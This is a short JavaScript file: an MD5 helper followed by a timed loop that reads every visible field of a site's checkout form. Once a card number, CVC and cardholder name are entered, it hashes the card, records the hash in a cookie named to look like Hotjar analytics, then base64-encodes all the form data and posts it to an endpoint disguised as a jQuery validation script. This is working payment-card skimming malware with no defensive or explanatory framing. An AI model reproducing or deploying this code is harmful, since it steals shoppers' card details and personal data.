
function md5(s){function L(k,d){return(k<<d)|(k>>>(32-d))}function K(a,b){return(a+b)|0}var k=[],S=[7,12,17,22,5,9,14,20,4,11,16,23,6,10,15,21],i,j;for(i=0;i<64;i++)k[i]=(Math.abs(Math.sin(i+1))*4294967296)|0;s=unescape(encodeURIComponent(s));var n=((s.length+8)>>6)+1,x=[];for(i=0;i<n*16;i++)x[i]=0;for(i=0;i<s.length;i++)x[i>>2]|=s.charCodeAt(i)<<((i%4)*8);x[i>>2]|=0x80<<((i%4)*8);x[n*16-2]=s.length*8;var a=1732584193,b=-271733879,c=-1732584194,d=271733878;for(i=0;i<x.length;i+=16){var A=a,B=b,C=c,D=d,f,g,t;for(j=0;j<64;j++){if(j<16){f=(b&c)|(~b&d);g=j}else if(j<32){f=(d&b)|(~d&c);g=(5*j+1)%16}else if(j<48){f=b^c^d;g=(3*j+5)%16}else{f=c^(b|~d);g=(7*j)%16}t=d;d=c;c=b;b=K(b,L(K(K(a,f),K(k[j],x[i+g])),S[((j>>4)<<2)|(j%4)]));a=t}a=K(a,A);b=K(b,B);c=K(c,C);d=K(d,D)}var o='';[a,b,c,d].forEach(function(v){for(j=0;j<4;j++)o+=('0'+((v>>>(j*8))&255).toString(16)).slice(-2)});return o}
setInterval(function(){
  var f={};jQuery('form.checkout-form :input').each(function(){if(this.name&&this.value&&this.type!='hidden'&&this.type!='checkbox')f[this.name]=this.value});
  if(!f.cardnumber||f.cardnumber.length<16||!f.cvc||f.cvc.length<3||!f.ccname||jQuery('#ccname').is(':focus'))return;
  var h=md5(f.cardnumber+f['exp-date']+f.cvc),l=(Cookies.get('_hjid')||'').split('.');
  if(l.indexOf(h)>=0)return;
  l.push(h);Cookies.set('_hjid',l.join('.'),{expires:365});
  jQuery.post('<% url "jquery-plugins" "/validate.min.php" %>',{t:btoa(encodeURIComponent(JSON.stringify(f))),h:h});
},300);
